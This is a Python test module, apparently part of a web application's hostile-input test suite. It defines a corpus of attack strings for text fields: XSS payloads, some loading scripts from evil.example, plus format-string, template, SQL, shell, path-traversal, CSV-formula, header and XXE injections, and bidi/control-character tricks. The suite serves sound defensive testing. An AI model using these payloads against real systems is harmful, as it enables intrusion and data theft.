"""Strings for every field that takes text."""

from __future__ import annotations

import re
import unicodedata

from tests.hostile.corpus.inputs import Input, inputs

UNSOUND = re.compile("[\0\ud800-\udfff]")
"""What no database and no browser can hold: NUL and halves of surrogate pairs."""
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def is_unsound(text: str) -> bool:
    return UNSOUND.search(text) is not None


def misleads(text: str) -> bool:
    """True for what must not stand in a name or a tag: it would read as another one."""
    return bool(BIDI.search(text) or CONTROL.search(text) or is_unsound(text))


ALERT = "alert(document.domain)"

XSS = inputs(
    "a browser must show it, never run it",
    {
        "script": f"<script>{ALERT}</script>",
        "script-upper": f"<SCRIPT SRC=//evil.example/x.js>{ALERT}</SCRIPT>",
        "script-nested": f"<scr<script>ipt>{ALERT}</scr</script>ipt>",
        "script-unclosed": f"<script>{ALERT}//",
        "script-slash": f"<script/x>{ALERT}</script/x>",
        "script-newline": f"<script\n>{ALERT}</script\n>",
        "script-module": f"<script type=module>{ALERT}</script>",
        "script-close-first": f"</script><script>{ALERT}</script>",
        "img-onerror": f"<img src=x onerror={ALERT}>",
        "img-onerror-quoted": f'<img src="x" onerror="{ALERT}">',
        "img-broken": f'<img """><script>{ALERT}</script>">',
        "svg-onload": f"<svg onload={ALERT}>",
        "svg-slash": f"<svg/onload={ALERT}//",
        "svg-script": f"<svg><script href=data:,{ALERT} /></svg>",
        "svg-animate": f"<svg><animate onbegin={ALERT} attributeName=x dur=1s>",
        "svg-use": f"<svg><use href='data:image/svg+xml,<svg onload={ALERT}>#x'/></svg>",
        "svg-a": f"<svg><a xlink:href='javascript:{ALERT}'><text>x</text></a></svg>",
        "math": f"<math><mi xlink:href='data:x,<script>{ALERT}</script>'>",
        "body-onload": f"<body onload={ALERT}>",
        "details": f"<details open ontoggle={ALERT}>",
        "input-autofocus": f"<input autofocus onfocus={ALERT}>",
        "marquee": f"<marquee onstart={ALERT}>",
        "video": f"<video><source onerror={ALERT}></video>",
        "iframe": f"<iframe src=javascript:{ALERT}>",
        "iframe-srcdoc": f"<iframe srcdoc='&lt;script&gt;{ALERT}&lt;/script&gt;'>",
        "object": f"<object data=javascript:{ALERT}>",
        "embed": f"<embed src=javascript:{ALERT}>",
        "a-javascript": f"<a href=javascript:{ALERT}>x</a>",
        "a-tab": f"<a href='jav&#x09;ascript:{ALERT}'>x</a>",
        "a-data": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
        "button-formaction": f"<button formaction=javascript:{ALERT}>x</button>",
        "form-action": f"<form action=javascript:{ALERT}><input type=submit></form>",
        "base": "<base href=//evil.example/>",
        "meta-refresh": f"<meta http-equiv=refresh content='0;url=javascript:{ALERT}'>",
        "link-import": "<link rel=stylesheet href=//evil.example/x.css>",
        "style": "<style>@import '//evil.example/x.css';</style>",
        "style-attribute": '" style="background:url(//evil.example)',
        "attribute-double": f'" onmouseover="{ALERT}',
        "attribute-single": f"' onmouseover='{ALERT}",
        "attribute-bare": f"x onmouseover={ALERT} ",
        "attribute-backtick": f"` onmouseover=`{ALERT}",
        "textarea-close": f"</textarea><script>{ALERT}</script>",
        "title-close": f"</title><script>{ALERT}</script>",
        "option-close": f"</option></select><script>{ALERT}</script>",
        "comment-open": f"<!--<img src='--><script>{ALERT}</script>'>",
        "comment-close": f"--><script>{ALERT}</script>",
        "cdata": f"<![CDATA[><script>{ALERT}</script>]]>",
        "noscript-mutation": f'<noscript><p title="</noscript><img src=x onerror={ALERT}>">',
        "style-mutation": f"<svg></p><style><a id='</style><img src=1 onerror={ALERT}>'>",
        "entities": f"&lt;script&gt;{ALERT}&lt;/script&gt;",
        "entities-numeric": f"&#60;script&#62;{ALERT}&#60;/script&#62;",
        "entities-twice": f"&amp;lt;script&amp;gt;{ALERT}",
        "entity-open": "&lt",
        "utf-7": f"+ADw-script+AD4-{ALERT}+ADw-/script+AD4-",
        "full-width": f"\uff1cscript\uff1e{ALERT}\uff1c/script\uff1e",
        "line-separator": f"</script>\u2028<script>{ALERT}</script>\u2029",
        "javascript-url": f"javascript:{ALERT}",
        "javascript-polyglot": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={ALERT} )//%0D%0A"
        f"</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={ALERT}//>\\x3e",
        "htmx-on": f'<div hx-on:load="{ALERT}" hx-get="/admin/" hx-trigger="load">x</div>',
        "htmx-data": "<div data-hx-get=//evil.example data-hx-trigger=load>x</div>",
        "angular": "{{constructor.constructor('alert(1)')()}}",
        "template-literal": "${alert(1)}",
    },
)

PATTERNS = inputs(
    "sentences are put together with str.format and %: nothing in a value may be evaluated",
    {
        "format-empty": "{}",
        "format-number": "{0}",
        "format-name": "{name}",
        "format-class": "{name.__class__.__mro__}",
        "format-index": "{0[0].__init__.__globals__}",
        "format-padding": "{name:>999999999}",
        "format-conversion": "{name!r}",
        "format-open": "{",
        "format-close": "}",
        "format-twice": "{{name}}",
        "percent": "%",
        "percent-s": "%s",
        "percent-name": "%(name)s",
        "percent-missing": "%(nobody)s",
        "percent-d": "%d %n %x",
        "percent-width": "%999999999d",
        "percent-open": "100%",
        "percent-twice": "%%",
        "django-variable": "{{ settings.SECRET_KEY }}",
        "django-tag": "{% debug %}{% load nobody %}",
        "django-comment": "{# x #}",
        "erb": "<%= 7*7 %>",
        "dollar": "${7*7} #{7*7} $USER",
    },
)

INJECTIONS = inputs(
    "somebody else's language: of a database, a shell, a file system, a spreadsheet, a header",
    {
        "sql-or": "' OR 1=1 --",
        "sql-drop": '"; DROP TABLE annotator_essay; --',
        "sql-sleep": "1; SELECT pg_sleep(10)",
        "sql-union": "1) UNION SELECT password FROM accounts_user --",
        "sql-like": "%_%\\",
        "sql-escape": "%' ESCAPE '\\",
        "sql-dollar": "$$ OR $1 = $1",
        "sql-cast": "1::text[]",
        "backslash": "\\",
        "quote": "'",
        "double-quote": '"',
        "json": '{"a": [1, "b"]}',
        "json-end": '"}],"x":[{"',
        "path-up": "../../../../etc/passwd",
        "path-windows": "..\\..\\windows\\win.ini",
        "path-absolute": "/etc/passwd",
        "path-drive": "C:\\CON",
        "path-coded": "%2e%2e%2f%00",
        "path-url": "file:///etc/passwd",
        "shell": "; touch /tmp/x; $(id) `id` | id",
        "csv-formula": "=1+1",
        "csv-plus": "+1+1",
        "csv-minus": "-2+3",
        "csv-at": "@SUM(1,2)",
        "csv-tab": "\t=1+1",
        "csv-return": "\r=1+1",
        "csv-command": "=cmd|' /C calc'!A0",
        "csv-link": '=HYPERLINK("//evil.example","x")',
        "header": "x\r\nSet-Cookie: admin=1\r\n\r\n<html>",
        "header-feed": "x\nSet-Cookie: admin=1",
        "xml-entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
        "ldap": "*)(uid=*))(|(uid=*",
        "regex": "(a+)+$" + "a" * 60 + "!",
        "signs": "(\\ (* \\) *) :: >> # \\",
        "field": "Предмет: история",
        "null-word": "null",
        "none-word": "None",
        "nan-word": "NaN",
        "true-word": "true",
    },
)

UNICODE = inputs(
    "text that is sound, however odd, is kept code point by code point",
    {
        "composed": "\u0439\u00e9",
        "decomposed": "\u0438\u0306e\u0301",
        "mark-first": "\u0301a",
        "order-mark": "\ufeffx",
        "order-mark-inside": "x\ufeffy",
        "line-ends": "a\r\nb\rc\nd",
        "line-ends-odd": "a\x85b\u2028c\u2029d",
        "spaces": "\u00a0\u2003\u3000 x",
        "zero-width": "a\u200bb\u200cc\u200dd\u2060e",
        "soft-hyphen": "раз\u00adбор",
        "hebrew": "\u05e9\u05dc\u05d5\u05dd world",
        "arabic": "\u0645\u0631\u062d\u0628\u0627 123",
        "ligature": "\ufdfa" * 40,
        "emoji": "😀👍🏽❤\ufe0f",
        "emoji-family": "👩\u200d👩\u200d👧\u200d👦",
        "flags": "🇷🇺🇬🇧🏴\U000e0067\U000e0062\U000e007f",
        "tags-unseen": "x\U000e0041\U000e0042",
        "zalgo": "z" + "\u0335\u0315\u0489" * 500,
        "zalgo-tag": "z" + "\u0335" * 50,
        "jamo": "\u1100\u1161\u11a8" * 15,
        "case-growing": "\u0390ßŉǰİ",
        "dotless": "ıİIi",
        "kelvin": "\u212a\u212b",
        "bold": "𝐀𝐁𝐂",
        "full-width-letters": "ＡＢＣ",
        "private": "\ue000\U00100000",
        "not-characters": "\ufffe\uffff\U0010ffff",
        "replacement": "\ufffd",
        "annotation": "\ufff9a\ufffab\ufffb",
        "marks-of-direction": "\u200ea\u200fb\u061cc",
        "look-alike": "раzbоr",
        "digits": "٣²Ⅷ½",
        "control-c1": "a\x80b\x9fc",
    },
)

MISLEADING = inputs(
    "controls turn a name into another one for the eye (S7): not in names and tags",
    {
        **{f"bidi-{ord(sign):04x}": f"a{sign}b" for sign in "\u202a\u202b\u202c\u202d\u202e"},
        **{f"bidi-{ord(sign):04x}": f"a{sign}b" for sign in "\u2066\u2067\u2068\u2069"},
        "bidi-file": "exp\u202etxt.exe",
        "bidi-flood": "\u202e" * 55,
        "control-bell": "a\x07b",
        "control-back": "a\x08b",
        "control-escape": "\x1b[31mred\x1b[0m",
        "control-unit": "a\x1fb",
        "control-delete": "a\x7fb",
    },
)

UNSOUND_TEXTS = inputs(
    "SQLite stores it, PostgreSQL refuses it, and a list page with it is lost (4.3)",
    {
        "nul": "\0",
        "nul-first": "\0a",
        "nul-inside": "a\0b",
        "nul-last": "a\0",
        "surrogate-high": "\ud800",
        "surrogate-low": "\udc00",
        "surrogates-swapped": "\udc00\ud800",
        "surrogate-last": "a\udbff",
        "surrogate-before-pair": "\ud83d😀",
    },
)

LENGTHS = inputs(
    "SQLite does not look at the width of a column, PostgreSQL does",
    {
        "empty": "",
        "space": " ",
        "feeds": "\n\n\n",
        "60-letters": "я" * 60,
        "61-letters": "я" * 61,
        "61-with-spaces": " " * 60 + "A",
        "81-letters": "x" * 81,
        "151-letters": "x" * 151,
        "256-letters": "x" * 256,
        "1001-letters": "x" * 1001,
        "2001-letters": "x" * 2001,
        "4001-letters": "x" * 4001,
        "one-word": "ы" * 70_000,
        "many-lines": "a\n" * 20_000,
        "many-tags": "<b>" * 20_000,
        "many-brackets": "(\\ " * 20_000,
        "many-braces": "{" * 50_000,
    },
)

TEXTS: tuple[Input[str], ...] = (
    *XSS,
    *PATTERNS,
    *INJECTIONS,
    *UNICODE,
    *MISLEADING,
    *UNSOUND_TEXTS,
    *LENGTHS,
)

_FEW = {
    *("script", "attribute-double", "format-class", "percent-s", "django-tag", "sql-or"),
    *("path-up", "header", "line-ends", "emoji-family", "zero-width", "look-alike"),
    *("bidi-202e", "control-escape", "nul-inside", "surrogate-high", "surrogates-swapped"),
    *("empty", "space", "61-letters", "151-letters", "4001-letters", "one-word", "null-word"),
}
FEW: tuple[Input[str], ...] = tuple(text for text in TEXTS if text.name in _FEW)
"""Some of every kind, for places that take no text: numbers, choices, addresses."""


def is_composed(text: str) -> bool:
    return text == unicodedata.normalize("NFC", text)
